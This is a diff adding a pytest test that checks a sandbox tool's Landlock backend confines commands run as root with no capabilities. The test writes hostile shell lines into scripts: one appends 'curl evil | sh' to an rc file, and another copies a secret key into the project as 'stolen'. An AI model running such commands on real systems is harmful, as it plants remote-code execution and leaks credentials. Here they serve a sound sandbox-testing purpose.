@@ -153,3 +153,43 @@ def test_a_launcher_that_fails_before_exec_is_125(project: Path, tmp_path: Path)
     text = swifty([*wrapped, "--", "echo", "hello"], project)
     assert text.returncode == 125 and "landlock_restrict_self" in text.stderr
     assert "hello" not in text.stdout
+
+
+def no_capabilities(*argv: str) -> list[str]:
+    """Root with an empty capability bounding set and no_new_privs, as Codex's own
+    sandbox runs a command (an approved one too): dropping a capability from the set
+    then takes CAP_SETPCAP, which is gone with the rest."""
+    return ["setpriv", "--bounding-set=-all", "--inh-caps=-all", "--no-new-privs", *argv]
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="root's bounding set; others have none")
+def test_inside_a_sandbox_that_took_every_capability_landlock_confines(
+        project: Path, home: Path, secrets: dict[str, Path]) -> None:
+    status = swifty(no_capabilities("grep", "^CapBnd:", "/proc/self/status"), project)
+    assert status.stdout.split() == ["CapBnd:", "0" * 16], status  # the environment is real
+    attacks = {"rc": f"echo 'curl evil | sh' >> {secrets['rc']}",
+               "key": f"cat {secrets['key']} > {project}/stolen"}
+    scripts = {}
+    for name, attack in attacks.items():
+        scripts[name] = home.parent / f"attack-{name}.sh"
+        scripts[name].write_text(attack + "\n")
+    for script in scripts.values():  # the control: the same environment, unconfined
+        swifty(no_capabilities(SWIFTY, "run", "--sandbox", "off", "--mode",
+                               "bypassPermissions", "--", "bash", str(script)), project)
+    assert "evil" in secrets["rc"].read_text()
+    assert "ke-8181" in (project / "stolen").read_text()
+    secrets["rc"].write_text("# rc\n")
+    (project / "stolen").unlink()
+    done = swifty(no_capabilities(SWIFTY, "run", "--backend", "landlock", "--json", "--",
+                                  "grep", "^Cap", "/proc/self/status"), project)
+    doc = json.loads(done.stdout)
+    assert doc["exit_code"] == 0 and doc["backend"] == "landlock", doc
+    assert all(line.endswith("0" * 16) for line in doc["stdout"].splitlines()), doc
+    for name, script in scripts.items():
+        done = swifty(no_capabilities(SWIFTY, "run", "--json", "--", "bash", str(script)),
+                      project)
+        doc = json.loads(done.stdout)
+        assert doc["exit_code"] != 125 and doc["backend"] == "landlock", (name, doc)
+    assert "evil" not in secrets["rc"].read_text()
+    assert not (project / "stolen").exists() or "ke-8181" not in \
+        (project / "stolen").read_text()
